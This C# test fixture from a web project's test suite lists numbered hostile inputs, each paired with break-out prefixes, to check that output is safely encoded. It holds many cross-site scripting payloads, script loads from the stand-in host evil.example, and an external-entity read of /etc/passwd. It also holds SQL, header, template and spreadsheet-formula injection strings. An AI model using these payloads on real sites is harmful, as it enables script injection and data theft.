using System.Globalization;

namespace DaiHoi.Web.Tests.Hostile;

/// <summary>
/// Texts that would run as script somewhere if they came out as they went in: each way to begin one, behind each way to
/// break out of where a text stands. Every one carries its own number, so that it can be told where it came out.
/// </summary>
internal static class HostileTexts
{
    // {0} is the number.
    private static readonly string[] Scripts =
    [
        "<script>alert({0})</script>",
        "<ScRiPt>alert({0})</sCrIpT>",
        "<script src=//evil.example/{0}.js></script>",
        "<script/x>alert({0})</script>",
        "<script\n>alert({0})</script\n>",
        "<<script>alert({0});//<</script>",
        "<scr<script>ipt>alert({0})</scr</script>ipt>",
        "<script>alert({0})",
        "<img src=x onerror=alert({0})>",
        "<img src=x:{0} onerror=\"alert(1)\"//",
        "<img/src/onerror=alert({0})>",
        "<img src=`x` onerror='alert({0})'>",
        "<IMG SRC=\"jav\tascript:alert({0});\">",
        "<image href=x onerror=alert({0})>",
        "<svg onload=alert({0})>",
        "<svg/onload=alert({0})//",
        "<svg><script>alert({0})</script></svg>",
        "<svg><animate attributeName=href values=javascript:alert({0}) /><a id=x><text>x</text></a></svg>",
        "<svg><set attributeName=onmouseover to=alert({0})>",
        "<svg><foreignObject><iframe srcdoc=\"<script>alert({0})</script>\"></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert({0})>",
        "<math href=\"javascript:alert({0})\">x</math>",
        "<body onload=alert({0})>",
        "<body background=\"javascript:alert({0})\">",
        "<iframe src=javascript:alert({0})></iframe>",
        "<iframe srcdoc=\"&lt;script&gt;alert({0})&lt;/script&gt;\"></iframe>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">{0}</object>",
        "<embed src=\"javascript:alert({0})\">",
        "<applet code=x>{0}</applet>",
        "<a href=\"javascript:alert({0})\">x</a>",
        "<a href=\"JaVaScRiPt:alert({0})\">x</a>",
        "<a href=\" &#14; javascript:alert({0})\">x</a>",
        "<a href=\"java&#10;script:alert({0})\">x</a>",
        "<a href=\"&#x6A;avascript:alert({0})\">x</a>",
        "<a href=\"vbscript:msgbox({0})\">x</a>",
        "<a href=\"data:text/html,<script>alert({0})</script>\">x</a>",
        "<a href=x onmouseover=alert({0}) style=position:fixed;inset:0>x</a>",
        "<form action=javascript:alert({0})><button>x</button></form>",
        "<button formaction=javascript:alert({0})>x</button>",
        "<input autofocus onfocus=alert({0})>",
        "<select autofocus onfocus=alert({0})></select>",
        "<textarea autofocus onfocus=alert({0})></textarea>",
        "<details open ontoggle=alert({0})>x</details>",
        "<video><source onerror=alert({0})></video>",
        "<audio src=x onerror=alert({0})>",
        "<marquee onstart=alert({0})>x</marquee>",
        "<isindex type=image src=1 onerror=alert({0})>",
        "<base href=//evil.example/{0}/>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert({0})\">",
        "<link rel=stylesheet href=//evil.example/{0}.css>",
        "<style>@import '//evil.example/{0}.css';</style>",
        "<style>*{{background:url(javascript:alert({0}))}}</style>",
        "<p style=\"background:url(javascript:alert({0}))\">x</p>",
        "<div style=\"width:expression(alert({0}))\">x</div>",
        "<xss style=\"behavior:url(#{0})\">",
        "<template><script>alert({0})</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert({0})>\">",
        "<!--<img src=\"--><img src=x onerror=alert({0})//\">",
        "<![CDATA[<script>alert({0})</script>]]>",
        "<?xml-stylesheet href=\"javascript:alert({0})\"?>",
        "<!ENTITY x{0} SYSTEM \"file:///etc/passwd\">",
        "<x onclick=alert({0})>x</x>",
        "<p/onmouseenter=alert({0})>x",
        "javascript:alert({0})",
        "data:text/html,<script>alert({0})</script>",
        "//evil.example/{0}",
        "&lt;script&gt;alert({0})&lt;/script&gt;",
        "&#60;script&#62;alert({0})&#60;/script&#62;",
        "&#x3c;img src=x onerror=alert({0})&#x3e;",
        "\\u003cscript\\u003ealert({0})\\u003c/script\\u003e",
        "\\x3cscript\\x3ealert({0})\\x3c/script\\x3e",
        "%3Cscript%3Ealert({0})%3C/script%3E",
        "%253Cscript%253Ealert({0})%253C/script%253E",
        "+ADw-script+AD4-alert({0})+ADw-/script+AD4-",
        "＜script＞alert({0})＜/script＞",
        "‹script›alert({0})‹/script›",
        "<scr\0ipt>alert({0})</scr\0ipt>",
        "<img src=x on\u200Berror=alert({0})>",
        "\u202E>tpircs/<({0})trela>tpircs<",
        "\uFEFF<script>alert({0})</script>",
        "<a href=\"\u0001javascript:alert({0})\">x</a>",
        "{{{{constructor.constructor('alert({0})')()}}}}",
        "${{alert({0})}}",
        "@(1+{0})",
        "@{{System.Diagnostics.Process.Start(\"x{0}\");}}",
        "<%= {0} %>",
        "#{{ {0} }}",
        "*/alert({0})/*",
        "';alert({0});//",
        "\";alert({0});//",
        "\\\";alert({0});//",
        "`;alert({0});//",
        "' or {0}=1 --",
        "=HYPERLINK(\"http://evil.example/{0}\")",
        "[x](javascript:alert({0}))",
        "![x](x\" onerror=\"alert({0}))",
        "<http://evil.example/{0}>",
        "\r\nSet-Cookie: x={0}\r\n\r\n<script>alert(1)</script>",
    ];

    // Out of an attribute, an element whose content is text, a comment, a script with data, a CDATA section.
    private static readonly string[] Ways =
    [
        "",
        "\">",
        "'>",
        "\" autofocus onfocus=alert(1) x=\"",
        "</title>",
        "</script>",
        "--><",
        "]]>",
    ];

    /// <summary>Each way to begin, plain, and behind one of the ways out: all pairs of the first with a different way each.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Scripts
            .Select(script => (Way: "", Script: script))
            .Concat(Scripts.Select((script, i) => (Way: Ways[1 + (i % (Ways.Length - 1))], Script: script)))
            .Concat(Scripts.Take(20).Select((script, i) => (Way: Ways[1 + ((i + 3) % (Ways.Length - 1))], Script: script)))
            .Select((text, i) => text.Way + string.Format(CultureInfo.InvariantCulture, text.Script, 70_000 + i)),
    ];

    /// <summary>The number in a text that came from here.</summary>
    public static string NumberOf(int index) => (70_000 + index).ToString(CultureInfo.InvariantCulture);
}
